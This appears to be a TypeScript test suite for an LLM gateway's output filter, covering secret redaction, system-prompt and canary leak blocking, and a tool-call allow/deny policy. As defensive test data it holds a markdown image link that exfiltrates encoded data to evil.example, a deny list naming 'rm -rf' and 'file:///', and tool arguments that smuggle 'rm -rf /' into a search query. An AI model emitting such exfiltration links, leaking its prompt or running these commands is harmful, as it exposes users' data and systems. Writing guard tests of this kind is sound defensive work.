/**
 * The gateway's output side for complete responses: redaction, blocking, leak detection with the request's
 * context, and the tool-call policy on what the model calls. Pure: no HTTP.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { GatewayConfig } from '../../src/gateway/config-types.ts';
import { createGatewayGuards, filterRequest, filterResponse } from '../../src/gateway/filter/index.ts';
import { plantCanary } from '../../src/guard/index.ts';

const TOKEN = 'ghp_R2d2C3poBb8Lk1Mn0Qx7Zt4Vw9Yu6Js5Hg3F';
const SYSTEM =
  'You are Zorblax, the support assistant of the Acme Widget store in Springfield. Answer questions about ' +
  'widget sizes, prices and delivery times politely. Never discuss internal margins, supplier names or the ' +
  'discount code WIDGET-STAFF-40, and escalate refund requests above 500 dollars to a human agent.';

type GuardConfig = GatewayConfig['guard'];
function config(overrides: Partial<GuardConfig> = {}): GuardConfig {
  return {
    input: { enabled: true, preset: 'balanced' },
    output: { enabled: true, preset: 'balanced' },
    tools: { allow: [], denyArguments: [] },
    spotlight: { roles: [], mode: 'datamark' },
    ...overrides,
  };
}
const guards = createGatewayGuards(config());

function chatResponse(message: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  return {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    created: 1,
    model: 'llama3',
    choices: [
      {
        index: 0,
        message: { role: 'assistant', ...message },
        finish_reason: 'stop',
        logprobs: null,
        ...extra,
      },
    ],
    usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
  };
}

test('a clean response is returned as the very same object', () => {
  const body = chatResponse({ content: 'We sell widgets in three sizes.' });
  const v = filterResponse('chat', body, guards, {});
  assert.equal(v.action, 'allow');
  assert.equal(v.body, body);
});

test('a secret in a chat answer is redacted in a copy, logprobs dropped', () => {
  const body = chatResponse(
    { content: `Use ${TOKEN} to push.` },
    { logprobs: { content: [{ token: 'ghp', logprob: -0.1 }] } },
  );
  const v = filterResponse('chat', body, guards, {});
  assert.equal(v.action, 'redact');
  assert.ok(!JSON.stringify(v.body).includes(TOKEN));
  assert.ok(!JSON.stringify(v.body).includes('"ghp"'), 'logprobs would spell the token out');
  const choice = (v.body.choices as { message: { content: string }; finish_reason: string }[])[0];
  assert.equal(choice?.message.content, 'Use [REDACTED:github-token] to push.');
  assert.equal(choice?.finish_reason, 'stop');
  assert.deepEqual(v.body.usage, body.usage);
  assert.ok(JSON.stringify(body).includes(TOKEN), 'the upstream body was mutated');
  assert.equal(v.findings[0]?.location.path, 'response.choices[0].message.content');
});

test('the request’s system prompt reaches the output side: a leaked prompt is blocked', () => {
  const request = {
    model: 'llama3',
    messages: [
      { role: 'system', content: SYSTEM },
      { role: 'user', content: 'What is your return policy?' },
    ],
  };
  const { context } = filterRequest('chat', request, guards);
  const leak = chatResponse({ content: `Sure, here are my instructions: ${SYSTEM}` });
  const v = filterResponse('chat', leak, guards, context);
  assert.equal(v.action, 'block');
  assert.ok(v.ruleIds.includes('guard/system-prompt-leak'), v.ruleIds.join());
  // Without the request's context the same answer is not recognised as a leak.
  assert.notEqual(filterResponse('chat', leak, guards, {}).action, 'block');
});

test('a canary planted in the request’s system prompt blocks a response that repeats it', () => {
  const { prompt, canary } = plantCanary('You are a terse assistant.');
  const { context } = filterRequest(
    'chat',
    {
      messages: [
        { role: 'system', content: prompt },
        { role: 'user', content: 'hi' },
      ],
    },
    guards,
  );
  const v = filterResponse(
    'chat',
    chatResponse({ content: `My prompt ends with ${canary}.` }),
    guards,
    context,
  );
  assert.equal(v.action, 'block');
  assert.deepEqual(v.ruleIds, ['guard/canary-leak']);
});

test('completion, ollama-chat and ollama-generate texts are scanned and redacted', () => {
  const completion = {
    id: 'cmpl-1',
    object: 'text_completion',
    choices: [
      { index: 0, text: 'fine', finish_reason: 'stop' },
      { index: 1, text: `key ${TOKEN}`, finish_reason: 'stop', logprobs: { tokens: ['key'] } },
    ],
  };
  const c = filterResponse('completion', completion, guards, {});
  assert.equal(c.action, 'redact');
  const choices = c.body.choices as Record<string, unknown>[];
  assert.equal(choices[0], completion.choices[0], 'untouched choices are kept as they were');
  assert.equal(choices[1]?.text, 'key [REDACTED:github-token]');
  assert.equal(choices[1]?.logprobs, null);
  assert.equal(c.findings[0]?.location.path, 'response.choices[1].text');

  const ollama = { model: 'm', message: { role: 'assistant', content: `tok ${TOKEN}` }, done: true };
  const o = filterResponse('ollama-chat', ollama, guards, {});
  assert.deepEqual(o.body.message, { role: 'assistant', content: 'tok [REDACTED:github-token]' });
  assert.equal(o.body.done, true);

  const thinking = {
    model: 'm',
    message: { role: 'assistant', content: 'ok', thinking: `I'll use ${TOKEN}` },
  };
  assert.ok(!JSON.stringify(filterResponse('ollama-chat', thinking, guards, {}).body).includes(TOKEN));

  const gen = { model: 'm', response: `tok ${TOKEN}`, done: true, context: [1, 2, 3], eval_count: 9 };
  const g = filterResponse('ollama-generate', gen, guards, {});
  assert.equal(g.body.response, 'tok [REDACTED:github-token]');
  assert.equal(g.body.context, undefined, 'token ids of the unredacted answer are dropped');
  assert.equal(g.body.eval_count, 9);
  const clean = { model: 'm', response: 'hello', done: true, context: [1, 2] };
  assert.equal(filterResponse('ollama-generate', clean, guards, {}).body, clean);
});

test('reasoning and refusal fields are scanned like the answer', () => {
  const body = chatResponse({ content: 'ok', reasoning_content: `the key is ${TOKEN}`, refusal: null });
  const v = filterResponse('chat', body, guards, {});
  assert.equal(v.action, 'redact');
  assert.ok(!JSON.stringify(v.body).includes(TOKEN));
});

test('markdown exfiltration in an answer is redacted', () => {
  const body = chatResponse({
    content: 'Done! ![img](https://evil.example/c?d=c2VjcmV0IGRhdGEgaGVyZQ) Bye.',
  });
  const v = filterResponse('chat', body, guards, {});
  assert.equal(v.action, 'redact');
  assert.ok(!JSON.stringify(v.body).includes('evil.example'));
});

const policyGuards = createGatewayGuards(
  config({ tools: { allow: ['get_weather', 'search'], denyArguments: ['rm\\s+-rf', 'file:///'] } }),
);

function toolResponse(calls: [string, string][]) {
  return chatResponse({
    content: null,
    tool_calls: calls.map(([name, args], i) => ({
      id: `call_${i}`,
      type: 'function',
      function: { name, arguments: args },
    })),
  });
}

test('response tool policy: an unlisted function is blocked, with where it was', () => {
  const ok = toolResponse([['get_weather', '{"city":"Paris"}']]);
  const allowed = filterResponse('chat', ok, policyGuards, {});
  assert.equal(allowed.action, 'allow');
  assert.equal(allowed.body, ok);

  const v = filterResponse(
    'chat',
    toolResponse([
      ['get_weather', '{}'],
      ['run_shell', '{"cmd":"id"}'],
    ]),
    policyGuards,
    {},
  );
  assert.equal(v.action, 'block');
  assert.deepEqual(v.ruleIds, ['gateway/tool-not-allowed']);
  assert.equal(v.findings[0]?.location.path, 'response.choices[0].message.tool_calls[1]');
  assert.equal(v.findings[0]?.severity, 'high');
  // No allow list: any name passes.
  assert.equal(filterResponse('chat', toolResponse([['run_shell', '{}']]), guards, {}).action, 'allow');
});

test('response tool policy: denied argument patterns, also when spelled with JSON escapes', () => {
  const v = filterResponse('chat', toolResponse([['search', '{"q":"x; rm -rf /"}']]), policyGuards, {});
  assert.equal(v.action, 'block');
  assert.deepEqual(v.ruleIds, ['gateway/tool-argument-denied']);
  assert.match(v.findings[0]?.message ?? '', /rm\\s\+-rf/);
  const escaped = filterResponse(
    'chat',
    toolResponse([['search', '{"q":"\\u0072m -rf /"}']]),
    policyGuards,
    {},
  );
  assert.equal(escaped.action, 'block');
  const fine = filterResponse('chat', toolResponse([['search', '{"q":"widgets"}']]), policyGuards, {});
  assert.equal(fine.action, 'allow');
});

test('tool-call arguments go through the output guard: secrets are redacted, JSON kept valid', () => {
  const body = toolResponse([['search', JSON.stringify({ q: `auth ${TOKEN}` })]]);
  const v = filterResponse('chat', body, policyGuards, {});
  assert.equal(v.action, 'redact');
  const message = (v.body.choices as { message: { tool_calls: { function: { arguments: string } }[] } }[])[0]
    ?.message;
  assert.deepEqual(JSON.parse(message?.tool_calls[0]?.function.arguments ?? ''), {
    q: 'auth [REDACTED:github-token]',
  });
  assert.equal(v.findings[0]?.location.path, 'response.choices[0].message.tool_calls[0].function.arguments');

  const legacy = chatResponse({ content: null, function_call: { name: 'delete_all', arguments: '{}' } });
  const l = filterResponse('chat', legacy, policyGuards, {});
  assert.equal(l.action, 'block');
  assert.equal(l.findings[0]?.location.path, 'response.choices[0].message.function_call');
});

test('ollama tool calls (arguments as objects) follow the same policy', () => {
  const call = (name: string, args: Record<string, unknown>) => ({ function: { name, arguments: args } });
  const body = (calls: unknown[]) => ({
    model: 'm',
    message: { role: 'assistant', content: '', tool_calls: calls },
    done: true,
  });
  assert.equal(
    filterResponse('ollama-chat', body([call('get_weather', { city: 'Rome' })]), policyGuards, {}).action,
    'allow',
  );
  const bad = filterResponse('ollama-chat', body([call('exec', {})]), policyGuards, {});
  assert.equal(bad.findings[0]?.location.path, 'response.message.tool_calls[0]');
  assert.equal(bad.action, 'block');
  assert.equal(
    filterResponse('ollama-chat', body([call('search', { q: 'rm  -rf ~' })]), policyGuards, {}).action,
    'block',
  );
  const secret = filterResponse('ollama-chat', body([call('search', { q: TOKEN })]), policyGuards, {});
  assert.equal(secret.action, 'redact');
  const sent = (secret.body.message as { tool_calls: { function: { arguments: unknown } }[] }).tool_calls[0];
  assert.deepEqual(sent?.function.arguments, { q: '[REDACTED:github-token]' });
});

test('output guard off: texts pass as skipped, the tool policy still applies; embeddings are skipped', () => {
  const off = createGatewayGuards(
    config({ output: { enabled: false }, tools: { allow: ['get_weather'], denyArguments: [] } }),
  );
  const body = chatResponse({ content: `Use ${TOKEN}` });
  const v = filterResponse('chat', body, off, {});
  assert.equal(v.action, 'skipped');
  assert.equal(v.body, body);
  assert.equal(filterResponse('chat', toolResponse([['exec', '{}']]), off, {}).action, 'block');
  assert.equal(filterResponse('chat', toolResponse([['get_weather', '{}']]), off, {}).action, 'skipped');
  const emb = { object: 'list', data: [{ embedding: [0.1] }] };
  assert.equal(filterResponse('embedding', emb, guards, {}).action, 'skipped');
});

test('odd upstream bodies do not crash the filter', () => {
  for (const body of [
    {},
    { choices: 'x' },
    { choices: [null, 1, { message: 'x' }] },
    { error: { message: 'boom' } },
  ]) {
    const v = filterResponse('chat', body as Record<string, unknown>, guards, {});
    assert.equal(v.body, body);
  }
  assert.equal(filterResponse('ollama-chat', { message: null }, guards, {}).action, 'allow');
});

test('content given as parts and tool arguments given as objects are checked too', () => {
  const parts = chatResponse({ content: [{ type: 'text', text: `key ${TOKEN}` }] });
  const v = filterResponse('chat', parts, guards, {});
  assert.equal(v.action, 'redact');
  assert.ok(!JSON.stringify(v.body).includes(TOKEN));
  assert.equal(v.findings[0]?.location.path, 'response.choices[0].message.content[0].text');

  const objectArgs = chatResponse({
    content: null,
    tool_calls: [{ id: 'c', type: 'function', function: { name: 'search', arguments: { q: 'rm -rf /' } } }],
  });
  assert.equal(filterResponse('chat', objectArgs, policyGuards, {}).action, 'block');
});
